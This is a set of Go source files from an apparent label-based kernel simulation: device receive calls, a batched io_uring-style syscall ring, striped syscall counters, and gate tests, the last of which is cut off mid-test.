func (tc *ThreadCall) DeviceReceive(ce CEnt) ([]byte, bool, error) {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return nil, false, err
	}
	tc.k.count("net_rx", t)
	d, err := tc.deviceForRead(t, ce)
	if err != nil {
		return nil, false, err
	}
	if len(d.rxQueue) == 0 {
		return nil, false, nil
	}
	pkt := d.rxQueue[0]
	d.rxQueue = d.rxQueue[1:]
	return pkt, true, nil
}

// DeviceWait blocks until a frame is available to receive (or one has been
// transmitted, in the real interface); it returns immediately if the receive
// queue is non-empty.
func (tc *ThreadCall) DeviceWait(ce CEnt) error {
	for {
		tc.k.mu.Lock()
		t, err := tc.self()
		if err != nil {
			tc.k.mu.Unlock()
			return err
		}
		tc.k.count("net_wait", t)
		d, err := tc.deviceForRead(t, ce)
		if err != nil {
			tc.k.mu.Unlock()
			return err
		}
		if len(d.rxQueue) > 0 {
			tc.k.mu.Unlock()
			return nil
		}
		ch := d.waitCh
		tc.k.mu.Unlock()
		<-ch
	}
}

func (tc *ThreadCall) deviceForRead(t *thread, ce CEnt) (*device, error) {
	obj, err := tc.k.resolve(t.lbl, ce)
	if err != nil {
		return nil, err
	}
	d, ok := obj.(*device)
	if !ok {
		return nil, ErrWrongType
	}
	if !tc.k.canObserve(t.lbl, d.lbl) {
		return nil, ErrLabel
	}
	return d, nil
}

func (tc *ThreadCall) deviceForWrite(t *thread, ce CEnt) (*device, error) {
	obj, err := tc.k.resolve(t.lbl, ce)
	if err != nil {
		return nil, err
	}
	d, ok := obj.(*device)
	if !ok {
		return nil, ErrWrongType
	}
	if !tc.k.canModify(t.lbl, d.lbl) {
		return nil, ErrLabel
	}
	return d, nil
}
