package kernel

import (
	"encoding/binary"
	"sort"
	"sync/atomic"

	"histar/internal/label"
)

// Syscall ring: io_uring-style batched submission with a single completion
// wait.  A Ring belongs to one thread (like a real ring mapped into one
// address space) and is not safe for concurrent use; concurrency comes from
// many threads each driving their own ring.
//
// Protocol:
//
//   - Submit queues entries; nothing executes until Wait.
//   - Wait(minComplete) enters the kernel once (one thread snapshot, one
//     ring_submit count), executes every pending entry, and returns one
//     completion per entry in submission order.  Per-entry results and
//     errors live in the completions; Wait itself fails only when the
//     invoking thread cannot enter the kernel at all or minComplete exceeds
//     the pending count.
//   - An entry with Chain set depends on its predecessor: if the predecessor
//     fails (or was itself skipped), the entry completes with ErrSkipped
//     without executing — skip cascades down the chain, as an io_uring chain
//     break cancels the rest of the chain.
//
// Ordering: entries within one chain execute in submission order.  Across
// chains the kernel is free to reorder — Wait sorts independent chains by
// target object ID so entries against the same object become adjacent and a
// maximal run of same-target entries shares a single resolve, lockOrdered
// acquisition, and liveness verification.  The sort is stable and a chain's
// sort key is its FIRST entry's target, so two guarantees hold: chains keep
// their internal order, and chains with the same sort key — in particular,
// all unchained entries on one object — keep their submission order relative
// to each other.  A write-then-read sequence of unchained entries on one
// segment therefore needs no Chain flag unless it wants skip-on-error.  No
// order is promised between entries of chains that start on different
// objects (as between unlinked io_uring SQEs), and entries chained after an
// OpSync execute in a later pass, after every unsequenced entry of the
// current pass.  Each run still locks
// {container, object} in ascending-ID order through lockOrdered, and at most
// one run's locks are held at a time, so the ring adds no new lock-order
// edges to the discipline in the package comment.
//
// OpSync entries are the payoff: all syncs that become runnable in one pass
// are dispatched to the attached Syncer as a single SyncObjects group, which
// the store turns into dense write-ahead-log batches — one flush per batch
// instead of one per object.  Entries chained after a sync resume once the
// group resolves, so read-after-sync sequences still work.
//
// OpGateEnter makes gate calls ring-native: the entry performs the full
// Section 3.5 label checks and transfer, runs the gate's entry point (with
// no kernel locks held, on the invoking thread), and returns the entry
// point's result bytes in the completion's Val.  A successful gate entry
// retargets the invoking thread's label, clearance, and address space, so
// the ring re-snapshots the thread after each one: entries executing later
// in the batch — in particular a chained read of a reply segment only the
// post-entry label may observe — are checked against the thread's
// post-transfer state, exactly as if the gate call had been made directly.
// Gate entries are never coalesced with other entries and are their own
// run.  The canonical use is a demultiplexer batching many
// gate-call+reply-read chains (one chain per session) in a single Wait.
type Ring struct {
	tc     *ThreadCall
	syncer Syncer

	pending []RingEntry

	// Scratch buffers reused across Waits so a steady-state batch allocates
	// nothing beyond the data it reads.
	units []ringUnit
	plan  []planItem
	syncs []syncRef
	comps []RingCompletion

	// Tallies accumulated locally and flushed into the kernel-wide ring
	// counters once per Wait, so per-entry Submit calls from many threads
	// never contend on shared cachelines.  The submit-side tallies survive
	// across Waits until flushed; the rest are per-Wait.
	nSubmits, nEntries, nChained                                       uint64
	nRuns, nCoalesced, nSkipped, nSyncGroups, nSyncEntries, nGateCalls uint64
}

// RingOp selects the system call a ring entry performs.
type RingOp int

const (
	// OpSegmentRead reads Len bytes at Off from the segment Seg.
	OpSegmentRead RingOp = iota
	// OpSegmentWrite writes Data at Off in the segment Seg.
	OpSegmentWrite
	// OpSegmentResize sets the length of segment Seg to Len.
	OpSegmentResize
	// OpSegmentLen reports the length of segment Seg.
	OpSegmentLen
	// OpObjectStat stats the object Seg (any type).
	OpObjectStat
	// OpSync durably records object Seg.Object through the attached Syncer.
	OpSync
	// OpGateEnter invokes the gate Seg with the request in the entry's Gate
	// field; the completion's Val carries the entry point's result bytes.
	// On success the invoking thread runs under the requested label and
	// clearance for the rest of the batch (and after Wait returns).
	OpGateEnter
	// OpSnapshot captures the container Seg's subtree as a snapshot named by
	// the entry's Snap.Name (container_snapshot); the completion's Val is the
	// snapshot's lineage as 8 little-endian bytes and N the object count.
	OpSnapshot
	// OpClone materializes the snapshot Snap.Lineage under the container
	// Snap.Dst with category remap Snap.Remap (container_clone); the
	// completion's Val is the clone's root ID as 8 little-endian bytes and N
	// the object count.  Seg is ignored for ordering purposes — like gate
	// entries, snapshot and clone ops are always their own run.
	OpClone
)

// RingEntry is one submitted operation.
type RingEntry struct {
	Op   RingOp
	Seg  CEnt // target object
	Off  int
	Len  int
	Data []byte
	// Gate is the gate-call request for OpGateEnter entries (nil is treated
	// as the zero request, which the label checks reject).
	Gate *GateRequest
	// Snap is the request for OpSnapshot and OpClone entries.
	Snap *SnapRequest
	// Chain makes this entry depend on its predecessor in submission order:
	// it is skipped (ErrSkipped) if the predecessor failed or was skipped.
	Chain bool
}

// SnapRequest is the request payload of OpSnapshot and OpClone entries.
type SnapRequest struct {
	// Name names the snapshot (OpSnapshot).
	Name string
	// Lineage selects the snapshot to clone, Dst the container the clone is
	// linked into, and Remap the category rewrite applied to every cloned
	// label (OpClone).
	Lineage uint64
	Dst     ID
	Remap   map[label.Category]label.Category
}

// RingCompletion is one entry's result.  Completions are returned in
// submission order; Index is the entry's position in that order.
type RingCompletion struct {
	Index int
	Val   []byte // OpSegmentRead, OpGateEnter (entry point result)
	N     int    // bytes read/written, or segment length
	Stat  Stat   // OpObjectStat
	Err   error
}

// Syncer is the ring's durability hook: the store's group committer.  It is
// an interface so the kernel stays independent of the store package; the
// Unix library attaches the concrete *store.Store.
type Syncer interface {
	// SyncObjects durably records the objects' current states, returning one
	// error slot per id (nil = durable).
	SyncObjects(ids []uint64) []error
}

// NewRing creates an empty ring bound to the invoking thread.
func (tc *ThreadCall) NewRing() *Ring { return &Ring{tc: tc} }

// SetSyncer attaches the durability hook OpSync entries dispatch to.
func (r *Ring) SetSyncer(s Syncer) { r.syncer = s }

// Submit queues entries for the next Wait and returns the number queued.
// Submission tallies reach RingStats when the next Wait flushes them.
func (r *Ring) Submit(entries ...RingEntry) int {
	r.pending = append(r.pending, entries...)
	r.nSubmits++
	r.nEntries += uint64(len(entries))
	for i := range entries {
		if entries[i].Chain {
			r.nChained++
		}
	}
	return len(entries)
}

// Pending reports how many submitted entries have not yet been executed.
func (r *Ring) Pending() int { return len(r.pending) }

// ringUnit is one chain of entries: a maximal run of Chain-linked entries
// (an unchained entry is a unit of one).  Chained entries are consecutive
// submissions, so a unit is the contiguous range entries[start:end]; next is
// the absolute index of its first unexecuted entry.  Units are the
// reordering grain — intra-unit order is fixed, inter-unit order is not.
type ringUnit struct {
	start, end, next int
	failed           bool
}

// planItem is one executable (non-sync) entry scheduled for the current
// pass: u indexes the ring's unit buffer, i the entry.
type planItem struct {
	u, i int
}

// syncRef is one OpSync entry deferred to the current pass's group dispatch.
type syncRef struct {
	u, i int
}

// Wait executes every pending entry and returns their completions in
// submission order.  minComplete must not exceed the pending count; in this
// synchronous simulation Wait always completes everything, so any legal
// minComplete is satisfied.  The thread is snapshotted once for the whole
// batch, and one ring_submit syscall is recorded; each executed entry
// additionally records its own syscall (segment_read, ring_sync, ...), so
// batched and direct traffic remain distinguishable in SyscallCounts.
//
// The returned slice is the ring's completion queue: like consumed CQEs it
// is valid only until the next Wait on this ring, which recycles it.  Copy
// completions that must outlive that (the Val payloads are fresh per read
// and may be retained).
func (r *Ring) Wait(minComplete int) ([]RingCompletion, error) {
	if minComplete < 0 || minComplete > len(r.pending) {
		return nil, ErrInvalid
	}
	if len(r.pending) == 0 {
		return nil, nil
	}
	entries := r.pending
	r.pending = nil
	ctx, err := r.tc.enter(scRingSubmit)
	if err != nil {
		return nil, err
	}
	k := r.tc.k
	k.ring.waits.Add(1)
	r.nRuns, r.nCoalesced, r.nSkipped, r.nSyncGroups, r.nSyncEntries, r.nGateCalls = 0, 0, 0, 0, 0, 0

	if cap(r.comps) < len(entries) {
		r.comps = make([]RingCompletion, len(entries))
	}
	comps := r.comps[:len(entries)]
	for i := range comps {
		comps[i] = RingCompletion{Index: i}
	}
	r.comps = comps

	// Build chain units, then sort them by first-target object ID so
	// same-object work becomes adjacent in the execution stream.  The sort is
	// stable, so equal-target units keep submission order.
	units := r.units[:0]
	for i := range entries {
		if i == 0 || !entries[i].Chain {
			units = append(units, ringUnit{start: i, end: i + 1, next: i})
		} else {
			units[len(units)-1].end = i + 1
		}
	}
	sortUnits(units, entries)

	// Execute in passes: each pass runs every unit up to (but not through)
	// its next OpSync, coalescing same-target runs; then — with every
	// predecessor's outcome known — skips or dispatches the pending syncs as
	// one group.  Units suspended at a sync resume in the next pass.
	for remaining := len(entries); remaining > 0; {
		plan := r.plan[:0]
		for ui := range units {
			u := &units[ui]
			for u.next < u.end && entries[u.next].Op != OpSync {
				i := u.next
				u.next++
				remaining--
				if u.failed {
					// The chain already failed before this pass; nothing
					// after it executes, so don't bother planning it.
					comps[i].Err = ErrSkipped
					r.nSkipped++
					continue
				}
				plan = append(plan, planItem{ui, i})
			}
		}
		for j := 0; j < len(plan); {
			if op := entries[plan[j].i].Op; standalone(op) {
				// Gate, snapshot, and clone entries are their own run: each
				// takes its own locks one object at a time, so none may share
				// a coalesced acquisition.  A successful gate entry
				// additionally refreshes the batch snapshot for everything
				// that follows.
				if op == OpGateEnter {
					r.execGateEnter(&ctx, entries, units, plan[j], comps)
				} else {
					r.execSnapClone(&ctx, entries, units, plan[j], comps)
				}
				r.nRuns++
				j++
				continue
			}
			end := j + 1
			for end < len(plan) && entries[plan[end].i].Seg == entries[plan[j].i].Seg &&
				!standalone(entries[plan[end].i].Op) {
				end++
			}
			r.execRun(ctx, entries, units, plan[j:end], comps)
			r.nRuns++
			r.nCoalesced += uint64(end - j - 1)
			j = end
		}
		r.plan = plan
		// Every planned entry has executed, so chain failure states are
		// settled and each unit's pending sync can be skipped or dispatched.
		syncs := r.syncs[:0]
		for ui := range units {
			u := &units[ui]
			if u.next >= u.end {
				continue
			}
			i := u.next
			u.next++
			remaining--
			if u.failed {
				comps[i].Err = ErrSkipped
				r.nSkipped++
				continue
			}
			syncs = append(syncs, syncRef{ui, i})
		}
		if len(syncs) > 0 {
			r.dispatchSyncs(ctx, entries, units, syncs, comps)
		}
		r.syncs = syncs
	}
	r.units = units
	r.pending = entries[:0] // recycle the submission buffer

	k.ring.submits.Add(r.nSubmits)
	k.ring.entries.Add(r.nEntries)
	k.ring.chained.Add(r.nChained)
	r.nSubmits, r.nEntries, r.nChained = 0, 0, 0
	k.ring.runs.Add(r.nRuns)
	k.ring.coalesced.Add(r.nCoalesced)
	k.ring.skipped.Add(r.nSkipped)
	k.ring.syncGroups.Add(r.nSyncGroups)
	k.ring.syncEntries.Add(r.nSyncEntries)
	k.ring.gateCalls.Add(r.nGateCalls)
	return comps, nil
}

// sortUnits stably orders units by their first entry's target object ID.
// Batches are usually small, so an insertion sort (no closure, no interface
// dispatch) handles the common case; big fan-outs fall back to the library.
func sortUnits(units []ringUnit, entries []RingEntry) {
	if len(units) <= 32 {
		for i := 1; i < len(units); i++ {
			for j := i; j > 0 && entries[units[j].start].Seg.Object < entries[units[j-1].start].Seg.Object; j-- {
				units[j], units[j-1] = units[j-1], units[j]
			}
		}
		return
	}
	sort.SliceStable(units, func(a, b int) bool {
		return entries[units[a].start].Seg.Object < entries[units[b].start].Seg.Object
	})
}

// opWrites reports whether the op mutates its target (and so needs the
// object's write lock).
func opWrites(op RingOp) bool {
	return op == OpSegmentWrite || op == OpSegmentResize
}

// standalone reports whether the op always executes as its own run, outside
// the same-target coalescing that shares one lock acquisition.
func standalone(op RingOp) bool {
	return op == OpGateEnter || op == OpSnapshot || op == OpClone
}

// scFor maps a ring op to the per-syscall counter it records.
func scFor(op RingOp) syscallID {
	switch op {
	case OpSegmentRead:
		return scSegmentRead
	case OpSegmentWrite:
		return scSegmentWrite
	case OpSegmentResize:
		return scSegmentResize
	case OpSegmentLen:
		return scSegmentLen
	case OpObjectStat:
		return scObjectStat
	case OpSnapshot:
		return scContainerSnapshot
	case OpClone:
		return scContainerClone
	default:
		return scRingSync
	}
}

// execRun executes one maximal run of same-target entries under a single
// resolve + lockOrdered + liveness verification.  Per-entry label checks
// still happen individually (against immutable labels, so holding the lock
// is irrelevant to them), and a failing entry fails only its own chain.
func (r *Ring) execRun(ctx tctx, entries []RingEntry, units []ringUnit, run []planItem, comps []RingCompletion) {
	k := r.tc.k
	ce := entries[run[0].i].Seg
	cont, obj, resolveErr := k.peek(ctx, ce)
	var seg *segment
	var liveErr error
	if resolveErr == nil {
		write := false
		for _, it := range run {
			if opWrites(entries[it.i].Op) {
				write = true
				break
			}
		}
		ls := lockOrdered(objLock{cont, false}, objLock{obj, write})
		defer ls.unlock()
		liveErr = verifyEntryLive(cont, obj)
		seg, _ = obj.(*segment)
	}
	for _, it := range run {
		if units[it.u].failed {
			comps[it.i].Err = ErrSkipped
			r.nSkipped++
			continue
		}
		e := &entries[it.i]
		k.count(scFor(e.Op), ctx.t)
		err := resolveErr
		if err == nil {
			err = liveErr
		}
		if err == nil {
			switch e.Op {
			case OpObjectStat:
				comps[it.i].Stat, err = r.tc.objectStatLocked(ctx, obj)
			case OpSegmentRead:
				if seg == nil {
					err = ErrWrongType
				} else if err = r.tc.checkSegmentRead(ctx, seg); err == nil {
					comps[it.i].Val, err = segReadLocked(seg, e.Off, e.Len)
					comps[it.i].N = len(comps[it.i].Val)
				}
			case OpSegmentLen:
				if seg == nil {
					err = ErrWrongType
				} else if err = r.tc.checkSegmentRead(ctx, seg); err == nil {
					comps[it.i].N = len(seg.data)
				}
			case OpSegmentWrite:
				if seg == nil {
					err = ErrWrongType
				} else if err = r.tc.checkSegmentWrite(ctx, seg); err == nil {
					if err = segWriteLocked(k, seg, e.Off, e.Data); err == nil {
						comps[it.i].N = len(e.Data)
					}
				}
			case OpSegmentResize:
				if seg == nil {
					err = ErrWrongType
				} else if err = r.tc.checkSegmentWrite(ctx, seg); err == nil {
					err = segResizeLocked(k, seg, e.Len)
				}
			default:
				err = ErrInvalid
			}
		}
		if err != nil {
			comps[it.i].Err = err
			units[it.u].failed = true
		}
	}
}

// execGateEnter executes one OpGateEnter entry: resolve the gate, run the
// Section 3.5 checks and transfer (which takes the thread and thread-local
// segment write locks itself), then dispatch the entry point with no kernel
// locks held.  On success the batch snapshot *ctx is refreshed to the
// thread's post-transfer state, so the rest of the batch — notably a
// chained read of a reply segment readable only under the acquired label —
// is checked the same way it would be after a direct GateEnter syscall.
func (r *Ring) execGateEnter(ctx *tctx, entries []RingEntry, units []ringUnit, it planItem, comps []RingCompletion) {
	k := r.tc.k
	e := &entries[it.i]
	k.count(scGateEnter, ctx.t)
	r.nGateCalls++
	var req GateRequest
	if e.Gate != nil {
		req = *e.Gate
	}
	g, err := r.tc.resolveGate(*ctx, e.Seg)
	if err == nil {
		err = r.tc.gateEnterTransfer(ctx.t, g, req)
	}
	if err != nil {
		comps[it.i].Err = err
		units[it.u].failed = true
		return
	}
	comps[it.i].Val = r.tc.gateDispatch(g, req)
	comps[it.i].N = len(comps[it.i].Val)
	t := ctx.t
	t.mu.RLock()
	*ctx = tctx{t: t, lbl: t.lbl, clearance: t.clearance, as: t.addressSpace}
	t.mu.RUnlock()
}

// execSnapClone executes one OpSnapshot or OpClone entry as its own run.
// The syscall bodies lock one object at a time (plus the destination
// container for a clone's publish step), so like gate entries they never
// share a coalesced acquisition.
func (r *Ring) execSnapClone(ctx *tctx, entries []RingEntry, units []ringUnit, it planItem, comps []RingCompletion) {
	e := &entries[it.i]
	r.tc.k.count(scFor(e.Op), ctx.t)
	var req SnapRequest
	if e.Snap != nil {
		req = *e.Snap
	}
	var err error
	switch e.Op {
	case OpSnapshot:
		var info SnapshotInfo
		info, err = r.tc.containerSnapshotCtx(*ctx, e.Seg, req.Name)
		if err == nil {
			buf := make([]byte, 8)
			binary.LittleEndian.PutUint64(buf, info.Lineage)
			comps[it.i].Val = buf
			comps[it.i].N = info.Objects
		}
	case OpClone:
		var res CloneResult
		res, err = r.tc.containerCloneCtx(*ctx, req.Lineage, req.Dst, req.Remap)
		if err == nil {
			buf := make([]byte, 8)
			binary.LittleEndian.PutUint64(buf, uint64(res.Root))
			comps[it.i].Val = buf
			comps[it.i].N = res.Objects
		}
	}
	if err != nil {
		comps[it.i].Err = err
		units[it.u].failed = true
	}
}

// dispatchSyncs sends one pass's deferred OpSync entries to the Syncer as a
// single group — the pre-formed batch the store's group committer commits
// with one log append and one flush per bounded batch.
func (r *Ring) dispatchSyncs(ctx tctx, entries []RingEntry, units []ringUnit, syncs []syncRef, comps []RingCompletion) {
	k := r.tc.k
	ids := make([]uint64, len(syncs))
	for j, sr := range syncs {
		ids[j] = uint64(entries[sr.i].Seg.Object)
		k.count(scRingSync, ctx.t)
	}
	r.nSyncGroups++
	r.nSyncEntries += uint64(len(syncs))
	var errs []error
	if r.syncer == nil {
		errs = make([]error, len(ids))
		for j := range errs {
			errs[j] = ErrInvalid
		}
	} else {
		errs = r.syncer.SyncObjects(ids)
	}
	for j, sr := range syncs {
		var err error
		if j < len(errs) {
			err = errs[j]
		}
		if err != nil {
			comps[sr.i].Err = err
			units[sr.u].failed = true
		}
	}
}

// ringCounters is the kernel-wide tally of ring activity, kept as plain
// atomics (adds happen once per batch, not per entry, so striping is not
// needed).
type ringCounters struct {
	submits     atomic.Uint64
	entries     atomic.Uint64
	waits       atomic.Uint64
	runs        atomic.Uint64
	coalesced   atomic.Uint64
	chained     atomic.Uint64
	skipped     atomic.Uint64
	syncGroups  atomic.Uint64
	syncEntries atomic.Uint64
	gateCalls   atomic.Uint64
}

// RingStats is a snapshot of kernel-wide ring activity.
type RingStats struct {
	// Submits and Entries count Submit calls and the entries they queued;
	// Waits counts Wait calls that executed at least one entry (equals the
	// ring_submit syscall count).
	Submits uint64
	Entries uint64
	Waits   uint64
	// Runs is the number of lock acquisitions performed for entry execution;
	// Coalesced is how many entries shared a predecessor's acquisition, so
	// the coalesce rate is Coalesced / (Runs + Coalesced).
	Runs      uint64
	Coalesced uint64
	// Chained and Skipped count entries submitted with the Chain flag and
	// entries skipped by chain error propagation.
	Chained uint64
	Skipped uint64
	// SyncGroups and SyncEntries count group dispatches to the Syncer and
	// the OpSync entries they carried.
	SyncGroups  uint64
	SyncEntries uint64
	// GateCalls counts OpGateEnter entries executed through the ring.
	GateCalls uint64
}

// RingStats returns a snapshot of the kernel-wide ring counters.
func (k *Kernel) RingStats() RingStats {
	return RingStats{
		Submits:     k.ring.submits.Load(),
		Entries:     k.ring.entries.Load(),
		Waits:       k.ring.waits.Load(),
		Runs:        k.ring.runs.Load(),
		Coalesced:   k.ring.coalesced.Load(),
		Chained:     k.ring.chained.Load(),
		Skipped:     k.ring.skipped.Load(),
		SyncGroups:  k.ring.syncGroups.Load(),
		SyncEntries: k.ring.syncEntries.Load(),
		GateCalls:   k.ring.gateCalls.Load(),
	}
}

// ResetRingStats zeroes the ring counters (benchmark plumbing).
func (k *Kernel) ResetRingStats() {
	c := &k.ring
	c.submits.Store(0)
	c.entries.Store(0)
	c.waits.Store(0)
	c.runs.Store(0)
	c.coalesced.Store(0)
	c.chained.Store(0)
	c.skipped.Store(0)
	c.syncGroups.Store(0)
	c.syncEntries.Store(0)
	c.gateCalls.Store(0)
}
