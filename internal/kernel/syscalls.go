package kernel

import "sync/atomic"

// Syscall statistics.  The evaluation reports per-syscall invocation counts
// (e.g. 317 syscalls per fork/exec, 127 per spawn), and every syscall
// records itself; a single mutex-guarded map here was a global serialization
// point hit on every call.  Instead each syscall name has a fixed index into
// an array of striped atomic counters: recording a call is one atomic add on
// a stripe picked from the invoking thread's ID, so concurrent threads touch
// different cache lines, and reads merge the stripes.

// syscallID indexes the per-syscall counter table.
type syscallID int

const (
	scContainerCreate syscallID = iota
	scContainerGetParent
	scContainerList
	scContainerFindLabeled
	scContainerLink
	scContainerUnref
	scQuotaMove
	scObjectStat
	scObjectSetMetadata
	scObjectSetImmutable
	scObjectSetFixedQuota
	scCategoryCreate
	scSelfGetLabel
	scSelfGetClearance
	scSelfSetLabel
	scSelfSetClearance
	scSelfGetAS
	scSelfSetAS
	scThreadCreate
	scThreadHalt
	scThreadAlert
	scAlertPoll
	scGrantOwnership
	scLocalSegmentWrite
	scLocalSegmentRead
	scSegmentCreate
	scSegmentCopy
	scSegmentRead
	scSegmentWrite
	scSegmentResize
	scSegmentCAS
	scSegmentLen
	scFutexWait
	scFutexWake
	scGateCreate
	scGateEnter
	scGateStat
	scASCreate
	scASSet
	scASGet
	scASAddMapping
	scASRemoveMapping
	scASSetFaultHandler
	scMemRead
	scMemWrite
	scNetMACAddr
	scNetTx
	scNetRx
	scNetWait
	scRingSubmit
	scRingSync
	scContainerSnapshot
	scContainerClone

	numSyscalls
)

// syscallNames maps counter indexes to the names the statistics report.
var syscallNames = [numSyscalls]string{
	scContainerCreate:      "container_create",
	scContainerGetParent:   "container_get_parent",
	scContainerList:        "container_list",
	scContainerFindLabeled: "container_find_labeled",
	scContainerLink:        "container_link",
	scContainerUnref:       "container_unref",
	scQuotaMove:            "quota_move",
	scObjectStat:           "object_stat",
	scObjectSetMetadata:    "object_set_metadata",
	scObjectSetImmutable:   "object_set_immutable",
	scObjectSetFixedQuota:  "object_set_fixed_quota",
	scCategoryCreate:       "category_create",
	scSelfGetLabel:         "self_get_label",
	scSelfGetClearance:     "self_get_clearance",
	scSelfSetLabel:         "self_set_label",
	scSelfSetClearance:     "self_set_clearance",
	scSelfGetAS:            "self_get_as",
	scSelfSetAS:            "self_set_as",
	scThreadCreate:         "thread_create",
	scThreadHalt:           "thread_halt",
	scThreadAlert:          "thread_alert",
	scAlertPoll:            "alert_poll",
	scGrantOwnership:       "grant_ownership",
	scLocalSegmentWrite:    "local_segment_write",
	scLocalSegmentRead:     "local_segment_read",
	scSegmentCreate:        "segment_create",
	scSegmentCopy:          "segment_copy",
	scSegmentRead:          "segment_read",
	scSegmentWrite:         "segment_write",
	scSegmentResize:        "segment_resize",
	scSegmentCAS:           "segment_cas",
	scSegmentLen:           "segment_len",
	scFutexWait:            "futex_wait",
	scFutexWake:            "futex_wake",
	scGateCreate:           "gate_create",
	scGateEnter:            "gate_enter",
	scGateStat:             "gate_stat",
	scASCreate:             "as_create",
	scASSet:                "as_set",
	scASGet:                "as_get",
	scASAddMapping:         "as_add_mapping",
	scASRemoveMapping:      "as_remove_mapping",
	scASSetFaultHandler:    "as_set_fault_handler",
	scMemRead:              "mem_read",
	scMemWrite:             "mem_write",
	scNetMACAddr:           "net_macaddr",
	scNetTx:                "net_tx",
	scNetRx:                "net_rx",
	scNetWait:              "net_wait",
	scRingSubmit:           "ring_submit",
	scRingSync:             "ring_sync",
	scContainerSnapshot:    "container_snapshot",
	scContainerClone:       "container_clone",
}

// counterStripes is the number of stripes per counter; threads hash onto
// stripes by ID, so it plays the role of a per-CPU slot.
const counterStripes = 8

// paddedUint64 is an atomic counter padded to its own cache line.
type paddedUint64 struct {
	atomic.Uint64
	_ [56]byte
}

// stripedCounter spreads one logical counter over counterStripes cache
// lines.
type stripedCounter [counterStripes]paddedUint64

func (c *stripedCounter) add(stripe int) { c[stripe].Add(1) }

func (c *stripedCounter) load() uint64 {
	var n uint64
	for i := range c {
		n += c[i].Load()
	}
	return n
}

func (c *stripedCounter) reset() {
	for i := range c {
		c[i].Store(0)
	}
}

// syscallCounters is the full per-syscall statistics table.
type syscallCounters [numSyscalls]stripedCounter

// count records a syscall invocation for the statistics the evaluation
// reports.  One atomic add on the thread's stripe of the per-syscall
// counter, one on the thread's own counter; no shared mutex.
func (k *Kernel) count(sc syscallID, t *thread) {
	stripe := 0
	if t != nil {
		stripe = int((uint64(t.id) * 0x9e3779b97f4a7c15) >> 61)
		t.syscallCount.Add(1)
	}
	k.syscalls[sc].add(stripe)
}

// SyscallTotal returns the total number of system calls executed since boot.
func (k *Kernel) SyscallTotal() uint64 {
	var n uint64
	for i := range k.syscalls {
		n += k.syscalls[i].load()
	}
	return n
}

// SyscallCounts returns a copy of the per-syscall invocation counts, merging
// the stripes; syscalls never invoked are omitted, matching the previous
// map-based semantics.
func (k *Kernel) SyscallCounts() map[string]uint64 {
	out := make(map[string]uint64)
	for i := range k.syscalls {
		if n := k.syscalls[i].load(); n > 0 {
			out[syscallNames[i]] = n
		}
	}
	return out
}

// ResetSyscallCounts zeroes the syscall statistics (benchmark plumbing).
func (k *Kernel) ResetSyscallCounts() {
	for i := range k.syscalls {
		k.syscalls[i].reset()
	}
}
