package kernel

import (
	"errors"
	"testing"

	"histar/internal/label"
)

// gateBenchEnv builds a gate plus a pre-interned steady-state request, the
// shape of a warm webd session call: the caller repeatedly enters the same
// gate with identical labels, so every label the transfer installs is
// already interned and every comparison is already cached.
func gateBenchEnv(tb testing.TB) (*ThreadCall, CEnt, GateRequest) {
	tb.Helper()
	k, tc := boot(tb)
	root := k.RootContainer()
	c, _ := tc.CategoryCreateNamed("sess")
	gateID, err := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1, label.P(c, label.Star)),
		Clearance: label.New(label.L2),
		Closure:   []byte("closure-bytes"),
		Descrip:   "bench gate",
		Entry:     func(call *GateCallCtx) []byte { return call.Closure },
	})
	if err != nil {
		tb.Fatal(err)
	}
	lbl, _ := tc.SelfLabel()
	clr, _ := tc.SelfClearance()
	req := GateRequest{
		Label:     label.Intern(lbl),
		Clearance: label.Intern(clr),
		Verify:    label.Intern(lbl),
	}
	return tc, CEnt{root, gateID}, req
}

func TestGateEnterZeroAlloc(t *testing.T) {
	tc, gate, req := gateBenchEnv(t)
	// Warm the label caches, intern table, and ctx pool.
	if _, err := tc.GateEnter(gate, req); err != nil {
		t.Fatal(err)
	}
	allocs := testing.AllocsPerRun(100, func() {
		if _, err := tc.GateEnter(gate, req); err != nil {
			t.Fatal(err)
		}
	})
	if allocs != 0 {
		t.Errorf("steady-state GateEnter allocates %.1f times per call, want 0", allocs)
	}
}

func TestGateEnterClosureNotCopied(t *testing.T) {
	k, tc := boot(t)
	root := k.RootContainer()
	var first, second *byte
	gateID, _ := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Closure:   []byte("immutable"),
		Entry: func(call *GateCallCtx) []byte {
			if first == nil {
				first = &call.Closure[0]
			} else {
				second = &call.Closure[0]
			}
			return nil
		},
	})
	req := GateRequest{Label: label.New(label.L1), Clearance: label.New(label.L2), Verify: label.New(label.L1)}
	for i := 0; i < 2; i++ {
		if _, err := tc.GateEnter(CEnt{root, gateID}, req); err != nil {
			t.Fatal(err)
		}
	}
	if first == nil || second == nil {
		t.Fatal("entry did not run twice")
	}
	if first != second {
		t.Error("closure bytes were copied per call; invocations should share the gate's immutable backing")
	}
}

func BenchmarkGateEnter(b *testing.B) {
	tc, gate, req := gateBenchEnv(b)
	if _, err := tc.GateEnter(gate, req); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := tc.GateEnter(gate, req); err != nil {
			b.Fatal(err)
		}
	}
}

func TestGateTransfersOwnership(t *testing.T) {
	k, tc := boot(t)
	root := k.RootContainer()

	// The boot thread owns a category and stores that privilege in a gate.
	c, _ := tc.CategoryCreateNamed("priv")
	secret, _ := tc.SegmentCreate(root, label.New(label.L1, label.P(c, label.L3)), "secret", 4)
	_ = tc.SegmentWrite(CEnt{root, secret}, 0, []byte("ssh!"))

	gateID, err := tc.GateCreate(root, GateSpec{
		Label:     label.New(label.L1, label.P(c, label.Star)),
		Clearance: label.New(label.L2),
		Descrip:   "privilege gate",
		Entry: func(call *GateCallCtx) []byte {
			// Running with the gate's ownership of c, the entering thread can
			// read the secret.
			data, err := call.TC.SegmentRead(CEnt{root, secret}, 0, 4)
			if err != nil {
				return []byte("DENIED")
			}
			return data
		},
	})
	if err != nil {
		t.Fatal(err)
	}

	// An unprivileged thread cannot read the secret directly...
	tid, _ := tc.ThreadCreate(root, ThreadSpec{Label: label.New(label.L1), Clearance: label.New(label.L2), Descrip: "client"})
	tc2, _ := k.ThreadCall(tid)
	if _, err := tc2.SegmentRead(CEnt{root, secret}, 0, 4); err == nil {
		t.Fatal("client should not read the secret directly")
	}
	// ...but through the gate, requesting the gate's star, it can.
